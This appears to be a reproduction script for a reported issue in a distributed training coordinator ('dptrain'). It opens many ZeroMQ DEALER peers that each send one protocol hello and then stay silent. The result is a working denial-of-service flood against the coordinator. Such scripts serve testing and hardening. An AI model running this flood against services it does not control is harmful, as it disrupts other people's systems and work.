#!/usr/bin/python3
"""A flood of hellos: COUNT peers, each a DEALER socket that says hello to the coordinator at
ENDPOINT once, over SECONDS, and then says nothing and reads nothing, as the issue's attacker did.
The hello is dptrain's (Sources/Wire/Protocol.swift): 32-byte header, meta, empty bulk; it names
no BLAS core and accepts the run's, as an attacker's would. Uses Debian's python3-zmq."""
import struct
import sys
import time

import zmq

endpoint, count, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
version = int(sys.argv[4]) if len(sys.argv) > 4 else 6


def string(text):
    data = text.encode()
    return struct.pack("<I", len(data)) + data


meta = struct.pack("<I", 0) + string("flood") + string("") + struct.pack("<B", 1) + struct.pack("<H", 1)
header = struct.pack("<IHHQQQ", 0x52545044, version, 1, 0, 0, len(meta))
context = zmq.Context()
peers = []
start = time.monotonic()
for i in range(count):
    socket = context.socket(zmq.DEALER)
    socket.setsockopt(zmq.LINGER, 0)
    socket.setsockopt(zmq.RCVHWM, 1)
    socket.connect(endpoint)
    socket.send_multipart([header, meta, b""])
    peers.append(socket)
    time.sleep(max(0.0, start + (i + 1) * seconds / count - time.monotonic()))
print(f"hello-flood: {count} hellos in {time.monotonic() - start:.1f} s", file=sys.stderr)
time.sleep(float(sys.argv[5]) if len(sys.argv) > 5 else 5)
for socket in peers:
    socket.close()
context.term()
